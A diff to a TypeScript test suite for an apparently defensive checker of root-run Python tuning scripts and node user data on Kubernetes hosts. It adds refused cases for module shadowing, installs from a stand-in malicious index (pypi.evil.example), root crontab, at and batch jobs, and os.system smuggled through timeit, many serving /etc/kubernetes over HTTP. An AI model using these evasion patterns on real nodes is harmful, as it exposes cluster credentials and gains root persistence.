@@ -214,7 +214,7 @@ const insecure: NodeCase[] = [
     ),
     // Python docs "sys.path" ("The installation-dependent default": the standard library directory precedes
     // site-packages): a srvx.py written into /usr/lib64/python3.7 shadows the pip-installed srvx.
-    // MISS: Python docs "The initialization of the sys.path module search path" (the standard library directory, e.g.
+    // Was a MISS (fixed in round 75): Python docs "The initialization of the sys.path module search path" (the standard library directory, e.g.
     // /usr/lib64/python3.7, precedes site-packages): root imports the srvx.py user data wrote there (a server of
     // /etc/kubernetes), not pip's. pythonPipInstalled only distrusts written site-packages/dist-packages files;
     // pythonModuleFile does not search the stdlib directories: got []. Fix: any file user data writes under a
@@ -227,7 +227,44 @@ const insecure: NodeCase[] = [
             "pip3 install srvx",
         ]),
         REFUSED,
-        true,
+    ),
+    // Round 75 neighbours (insecure): a standard module's name written into the library directory is that module too
+    // (Python docs "sys.path": the standard library directory precedes site-packages; the stdlib's own json.py is
+    // replaced), and a reviewed project -> module mapping (pyjwt -> jwt) is shadowed the same way.
+    dev(
+        "user data: writes /usr/lib64/python3.7/json.py (a server); tune.py imports json",
+        tune(
+            "dev-py75q-stdlib-module-shadow-nodes",
+            ["import json", "json.main()"],
+            heredocFile("/usr/lib64/python3.7/json.py", SERVER),
+        ),
+        REFUSED,
+    ),
+    dev(
+        "user data: writes /usr/local/lib/python3.9/jwt.py (a server) and pip3 install pyjwt; tune.py imports jwt",
+        pipRun(
+            "dev-py75q-pip-pyjwt-shadow-nodes",
+            [...heredocFile("/usr/local/lib/python3.9/jwt.py", SERVER), "pip3 install pyjwt"],
+            "jwt",
+        ),
+        REFUSED,
+    ),
+    dev(
+        "user data: pip3 install --index-url https://pypi.evil.example/simple pyjwt; tune.py imports jwt",
+        pipRun(
+            "dev-py75q-pip-pyjwt-index-nodes",
+            ["pip3 install --index-url https://pypi.evil.example/simple pyjwt"],
+            "jwt",
+        ),
+        REFUSED,
+    ),
+    dev(
+        "user data: tar -xzf /opt/ops/lib.tgz -C /usr/lib64/python3.7 (content unknown) and pip3 install srvx",
+        pipRun("dev-py75q-pip-stdlib-tar-nodes", [
+            "tar -xzf /opt/ops/lib.tgz -C /usr/lib64/python3.7",
+            "pip3 install srvx",
+        ]),
+        REFUSED,
     ),
     // ===== the program's own environment writes + breakpoint (PEP 553) =====
     // Python docs "os.putenv": changes "affect subprocesses" and the C environ; CPython sys.breakpointhook reads
@@ -319,7 +356,7 @@ const insecure: NodeCase[] = [
     ),
     // ===== write calls as values / writes the pack may not see =====
     // Python docs "pathlib.Path.write_text"; a bound method of a call's result passed to map.
-    // MISS: Python docs "pathlib.Path.write_text" and "map": map calls the bound method
+    // Was a MISS (fixed in round 75): Python docs "pathlib.Path.write_text" and "map": map calls the bound method
     // Path('/etc/cron.d/ops').write_text(cron line): root's cron serves /etc/kubernetes. pythonWriteCallValues
     // (pythonCode.ts) matches names with (?<![\w.]) so `.write_text` after a call's `)` is never a candidate value,
     // and the call reader never sees a call of it: got []. Fix: an attribute of a call result (`).NAME`) naming a
@@ -332,10 +369,27 @@ const insecure: NodeCase[] = [
             `list(map(Path("/etc/cron.d/ops").write_text, ["${CRON}"]))`,
         ]),
         REFUSED,
-        true,
+    ),
+    // Round 75 neighbours (insecure): a bound write method stored in a name, and a bound Path.open given a mode by map.
+    dev(
+        "tune.py: w = Path('/etc/cron.d/ops').write_text; w(cron line)",
+        tune("dev-py75q-bound-write-text-alias-nodes", [
+            "from pathlib import Path",
+            'w = Path("/etc/cron.d/ops").write_text',
+            `w("${CRON}")`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: [f.write(cron line) for f in map(Path('/etc/cron.d/ops').open, ['w'])]",
+        tune("dev-py75q-map-bound-path-open-nodes", [
+            "from pathlib import Path",
+            `[f.write("${CRON}") for f in map(Path("/etc/cron.d/ops").open, ["w"])]`,
+        ]),
+        REFUSED,
     ),
     // Python reference "Class definitions": a class attribute bound to the builtin open (builtins are not descriptors).
-    // MISS: Python reference "Class definitions" (the body's bindings become class attributes) and Python docs
+    // Was a MISS (fixed in round 75): Python reference "Class definitions" (the body's bindings become class attributes) and Python docs
     // "Built-in Functions" (open is a builtin function, not a descriptor: C.w is open): root writes /etc/cron.d/ops.
     // The `w = open` line is exempted as an alias statement, but the call `C.w(...)` resolves to C.w, not open: got
     // []. Fix: an alias statement inside a class body (or any indented binding) binds CLASS.NAME too, or refuse a
@@ -348,7 +402,27 @@ const insecure: NodeCase[] = [
             `C.w("/etc/cron.d/ops", "w").write("${CRON}")`,
         ]),
         REFUSED,
-        true,
+    ),
+    // Round 75 neighbours (insecure): a partial bound in a class body, and an alias under an `if` in a class body.
+    dev(
+        "tune.py: class C: w = functools.partial(open, mode='w'); C.w('/etc/cron.d/ops').write(cron line)",
+        tune("dev-py75q-class-attr-partial-open-nodes", [
+            "import functools",
+            "class C:",
+            '    w = functools.partial(open, mode="w")',
+            `C.w("/etc/cron.d/ops").write("${CRON}")`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: class C: (if True: w = open); C().w is open (no descriptor); C.w('/etc/cron.d/ops', 'w')",
+        tune("dev-py75q-class-if-attr-open-nodes", [
+            "class C:",
+            "    if True:",
+            "        w = open",
+            `C.w("/etc/cron.d/ops", "w").write("${CRON}")`,
+        ]),
+        REFUSED,
     ),
     // Python docs "sys.modules": the builtins module object; its open is the builtin.
     dev(
@@ -625,8 +699,27 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
+    // Round 75 neighbours (insecure): a split literal argv is judged as the command it is (a server of
+    // /etc/kubernetes), and a literal with quotes is not split by the pack (shlex would: fail closed).
+    dev(
+        "tune.py: subprocess.Popen('python3 -m http.server 8001 -d /etc/kubernetes'.split())",
+        tune("dev-py75q-str-split-server-nodes", [
+            "import subprocess",
+            'subprocess.Popen("python3 -m http.server 8001 -d /etc/kubernetes".split())',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: subprocess.run(shlex.split(\"sh -c 'cp /var/lib/ops/c /etc/cron.d/ops'\"))",
+        tune("dev-py75q-shlex-quoted-sh-nodes", [
+            "import shlex, subprocess",
+            `open("/var/lib/ops/c", "w").write("${CRON}")`,
+            `subprocess.run(shlex.split("sh -c 'cp /var/lib/ops/c /etc/cron.d/ops'"))`,
+        ]),
+        REFUSED,
+    ),
     // crontab(1): "crontab file" installs file as the user's crontab (root's: its commands run as root).
-    // MISS: crontab(1) ("crontab file": installs file as the invoking user's crontab; root's commands run as root):
+    // Was a MISS (fixed in round 75): crontab(1) ("crontab file": installs file as the invoking user's crontab; root's commands run as root):
     // @reboot serves /etc/kubernetes. The argv is a literal list, read as a command, but crontab FILE is not judged
     // as a write of root's crontab (/var/spool/cron/root) the way the program's own cron writes are: got []. Fix:
     // judge subprocess argv through the same root-write readers user data's own lines use (crontab FILE / crontab -
@@ -639,10 +732,28 @@ const insecure: NodeCase[] = [
             'subprocess.run(["crontab", "/var/lib/ops/c"])',
         ]),
         REFUSED,
-        true,
+    ),
+    // Round 75 neighbours (insecure): crontab - (its standard input, crontab(1) "the pseudo-filename -") and
+    // `crontab -u root FILE`.
+    dev(
+        "tune.py: subprocess.run(['crontab', '-'], input=cron line)",
+        tune("dev-py75q-crontab-stdin-nodes", [
+            "import subprocess",
+            'subprocess.run(["crontab", "-"], input="@reboot cd /etc/kubernetes && python3 -m http.server 8001\\n", text=True)',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: subprocess.run(['crontab', '-u', 'root', '/var/lib/ops/c'])",
+        tune("dev-py75q-crontab-user-file-nodes", [
+            "import subprocess",
+            'open("/var/lib/ops/c", "w").write("@reboot cd /etc/kubernetes && python3 -m http.server 8001\\n")',
+            'subprocess.run(["crontab", "-u", "root", "/var/lib/ops/c"])',
+        ]),
+        REFUSED,
     ),
     // at(1): "at ... read commands from standard input ... executed at a later time" (as the caller, root).
-    // MISS: at(1) ("at ... read commands from standard input or a specified file which are to be executed at a later
+    // Was a MISS (fixed in round 75): at(1) ("at ... read commands from standard input or a specified file which are to be executed at a later
     // time", as the caller): root runs the server of /etc/kubernetes. The input= text given to at is never read as
     // shell lines (round 72 held `sh` with input=): got []. Fix: at/batch (and at -f FILE) are shell runners: their
     // stdin/file is shell lines, read or refused.
@@ -653,7 +764,25 @@ const insecure: NodeCase[] = [
             `subprocess.run(["at", "now"], input="${SERVE}", text=True)`,
         ]),
         REFUSED,
-        true,
+    ),
+    // Round 75 neighbours (insecure): at -f FILE (at(1) "-f file: Reads the job from file rather than standard input")
+    // and batch(1) with input=.
+    dev(
+        "tune.py: subprocess.run(['at', '-f', '/var/lib/ops/job', 'now'])",
+        tune("dev-py75q-at-file-nodes", [
+            "import subprocess",
+            `open("/var/lib/ops/job", "w").write("${SERVE}")`,
+            'subprocess.run(["at", "-f", "/var/lib/ops/job", "now"])',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: subprocess.run(['batch'], input=SERVE, text=True)",
+        tune("dev-py75q-batch-stdin-nodes", [
+            "import subprocess",
+            `subprocess.run(["batch"], input="${SERVE}", text=True)`,
+        ]),
+        REFUSED,
     ),
     // install(1): "copy files and set attributes": the last operand is the destination.
     dev(
@@ -751,6 +880,45 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
+    // Round 75 neighbours of the secure map(open) and timeit fixes: map with a second iterable gives open a mode,
+    // starmap its items' arguments; a lambda's body is read where it stands, a string setup is exec'd.
+    dev(
+        "tune.py: list(map(open, ['/etc/cron.d/ops'], ['w'])) (a second iterable: the mode)",
+        tune("dev-py75q-map-open-mode-nodes", [`[f.write("${CRON}") for f in map(open, ["/etc/cron.d/ops"], ["w"])]`]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: itertools.starmap(open, [('/etc/cron.d/ops', 'w')])",
+        tune("dev-py75q-starmap-open-nodes", [
+            "import itertools",
+            `[f.write("${CRON}") for f in itertools.starmap(open, [("/etc/cron.d/ops", "w")])]`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: timeit.timeit(lambda: eval(code), number=1) (the lambda's body is dynamic)",
+        tune("dev-py75q-timeit-lambda-eval-nodes", [
+            "import timeit",
+            `timeit.timeit(lambda: eval("__import__('os').system('${SERVE}')"), number=1)`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: timeit.timeit(lambda: 0, setup=<string running os.system>) (a string setup is exec'd)",
+        tune("dev-py75q-timeit-string-setup-nodes", [
+            "import timeit",
+            `timeit.timeit(lambda: 0, setup="import os; os.system('${SERVE}')", number=1)`,
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: timeit.Timer(lambda: 0, timer=srv.main).timeit(1) (a Timer and a timer callable stay unread)",
+        withSrv("dev-py75q-timeit-timer-nodes", [
+            "import timeit, srv",
+            "timeit.timeit(lambda: 0, timer=srv.main, number=1)",
+        ]),
+        REFUSED,
+    ),
 ];
 
 const secure: NodeCase[] = [
@@ -811,6 +979,9 @@ const secure: NodeCase[] = [
     // tenacity==8.2.3, the same default-index install. -r is outside PIP_PLAIN_OPTIONS: refused "imports tenacity, a
     // module ... the pack does not know". Fix if wanted: a -r file user data wrote as text whose every line is a name
     // specifier (no option line, no URL/path) contributes its names; else keep refusing.
+    // Still open (round 75): scriptPipModules reads install lines as text, before the script's file contents are known;
+    // trusting the file's names needs its content AT the pip line (a file rewritten before or after, relatively or via
+    // cp, would pass the final text): it takes a per-line file state from the script reader (rootWrites), not done.
     dev(
         "user data: pip3 install -r /etc/ops/req.txt (tenacity==8.2.3 only); tune.py imports tenacity",
         tune(
@@ -822,7 +993,7 @@ const secure: NodeCase[] = [
         true,
     ),
     // PyPI project "PyJWT": the distribution PyJWT provides the top-level module jwt.
-    // MISS: (secure, fail-closed; the lead may rule DECIDED) PyPI "PyJWT" (the project provides the top-level package
+    // Was a MISS (fixed in round 75): (secure, fail-closed; the lead may rule DECIDED) PyPI "PyJWT" (the project provides the top-level package
     // jwt): the rule maps a project to the module of its own normalized name only (PEP 503), so import jwt is
     // unknown. Knowing a project's top-level modules needs its wheel's top_level.txt/RECORD (not in user data): keep
     // refusing, or ship a short reviewed map of project -> modules.
@@ -833,8 +1004,24 @@ const secure: NodeCase[] = [
             ["import jwt", 'print(jwt.encode({"a": 1}, "k"))'],
             ["pip3 install pyjwt"],
         ),
-        undefined,
-        true,
+    ),
+    // Round 75 neighbours (secure): the reviewed mapping with extras and a version, and a file in a library directory
+    // not named like any imported module.
+    dev(
+        "user data: pip3 install 'pyjwt[crypto]==2.8.0'; tune.py: import jwt",
+        tune(
+            "dev-py75q-pip-pyjwt-extras-nodes",
+            ["import jwt", 'print(jwt.encode({"a": 1}, "k"))'],
+            ["pip3 install 'pyjwt[crypto]==2.8.0'"],
+        ),
+    ),
+    dev(
+        "user data: writes /etc/ops/srvx.conf (not a library directory) and pip3 install tenacity; tune.py imports tenacity, json",
+        tune(
+            "dev-py75q-pip-conf-beside-nodes",
+            ["import json, tenacity", "print(json.dumps(tenacity.__name__))"],
+            [...heredocFile("/etc/ops/json.conf", ["a = 1"]), "pip3 install tenacity"],
+        ),
     ),
     // Python docs "map(function, iterable, *iterables)": positional arguments only; print's file= is keyword-only.
     dev(
@@ -850,7 +1037,7 @@ const secure: NodeCase[] = [
         ]),
     ),
     // Python docs "open" (mode "r" default): map(open, paths) opens each for reading.
-    // MISS: (secure, fail-closed by round 74's rule) Python docs "map" (positional arguments only) and "open" (mode
+    // Was a MISS (fixed in round 75): (secure, fail-closed by round 74's rule) Python docs "map" (positional arguments only) and "open" (mode
     // defaults to 'r'): map(open, [literal paths]) only reads /etc/os-release. pythonWriteCallValues refuses open as
     // any value. Fix if wanted: map/starmap over a literal list whose callable's write-deciding parameters (open's
     // mode, print's file) cannot be reached positionally by one-argument items is read as those calls; else keep
@@ -858,8 +1045,36 @@ const secure: NodeCase[] = [
     dev(
         "tune.py: [f.read() for f in map(open, ['/etc/os-release'])] (open as a value, reads only)",
         tune("dev-py74q-map-open-read-nodes", ['print([f.read() for f in map(open, ["/etc/os-release"])])']),
-        undefined,
-        true,
+    ),
+    // Round 75 neighbours: map(open, paths, modes) passes a mode (refused: see insecure), starmap alike; these read.
+    dev(
+        "tune.py: for f in map(io.open, ('/etc/os-release', '/etc/hostname')): print(f.read())",
+        tune("dev-py75q-map-io-open-read-nodes", [
+            "import io",
+            'for f in map(io.open, ("/etc/os-release", "/etc/hostname")):',
+            "    print(f.read())",
+        ]),
+    ),
+    dev(
+        "tune.py: list(map(Path('/etc/os-release').read_text, [])) and 'a-b'.replace as a value (no write method)",
+        tune("dev-py75q-bound-read-text-nodes", [
+            "from pathlib import Path",
+            'print(list(map(Path("/etc/os-release").read_text, [])))',
+            'print(list(map("a-b".replace, ["-"], ["_"])))',
+        ]),
+    ),
+    dev(
+        "tune.py: def f(): w = open; return w('/etc/os-release').read() (a function's local alias, mode r)",
+        tune("dev-py75q-def-local-open-alias-nodes", [
+            "def f():",
+            "    w = open",
+            '    return w("/etc/os-release").read()',
+            "print(f())",
+        ]),
+    ),
+    dev(
+        "tune.py: subprocess.run(['crontab', '-l']) (lists root's crontab only)",
+        tune("dev-py75q-crontab-list-nodes", ["import subprocess", 'subprocess.run(["crontab", "-l"])']),
     ),
     // PEP 553: PYTHONBREAKPOINT=0 disables breakpoint().
     dev(
@@ -902,7 +1117,7 @@ const secure: NodeCase[] = [
             "cd /opt/ops && nohup python3 -m http.server --cgi --bi 127.0.0.1 8001 >/dev/null 2>&1 &",
         ]),
     ),
-    // MISS: (secure, fail-closed) Python docs "shlex.split(s, comments=False, posix=True)" (POSIX sh word splitting):
+    // Was a MISS (fixed in round 75): (secure, fail-closed) Python docs "shlex.split(s, comments=False, posix=True)" (POSIX sh word splitting):
     // the argv is [sysctl, -w, vm.swappiness=10], a literal the pack could compute. Refused as "runs commands the
     // pack does not read". Fix if wanted: shlex.split and str.split() of a string literal are the argv they compute
     // (plainShellPipelines already splits words); the insecure shlex/split cases are then judged as cp into
@@ -913,8 +1128,13 @@ const secure: NodeCase[] = [
             "import shlex, subprocess",
             'subprocess.run(shlex.split("sysctl -w vm.swappiness=10"))',
         ]),
-        undefined,
-        true,
+    ),
+    dev(
+        "tune.py: subprocess.run('sysctl -w vm.swappiness=10'.split())",
+        tune("dev-py75q-str-split-sysctl-nodes", [
+            "import subprocess",
+            'subprocess.run("sysctl -w vm.swappiness=10".split())',
+        ]),
     ),
     // --- batch 2 (secure) ---
     dev(
@@ -934,7 +1154,7 @@ const secure: NodeCase[] = [
         ]),
     ),
     // Python docs "timeit.timeit(stmt=...)": "stmt ... can also be a callable".
-    // MISS: (secure, fail-closed by design; the lead may rule DECIDED) Python docs "timeit" (stmt "can also be a
+    // Was a MISS (fixed in round 75): (secure, fail-closed by design; the lead may rule DECIDED) Python docs "timeit" (stmt "can also be a
     // callable"): a lambda summing a range runs nothing else. timeit is wholesale in PYTHON_DYNAMIC_NAMES
     // (pythonCode.ts) since its string stmt/setup are exec'd (the insecure timeit case): refused "runs code the pack
     // does not read". Fix if wanted: timeit.timeit/repeat/Timer whose stmt and setup are lambdas or names of
@@ -945,8 +1165,13 @@ const secure: NodeCase[] = [
             "import timeit",
             "print(timeit.timeit(lambda: sum(range(10)), number=1))",
         ]),
-        undefined,
-        true,
+    ),
+    dev(
+        "tune.py: timeit.repeat(lambda: sum(range(10)), setup=lambda: None, repeat=2, number=1)",
+        tune("dev-py75q-timeit-repeat-lambdas-nodes", [
+            "import timeit",
+            "print(timeit.repeat(lambda: sum(range(10)), setup=lambda: None, repeat=2, number=1))",
+        ]),
     ),
     dev(
         "tune.py: typing.get_type_hints(f) where f's annotations are the types int and str (no strings)",
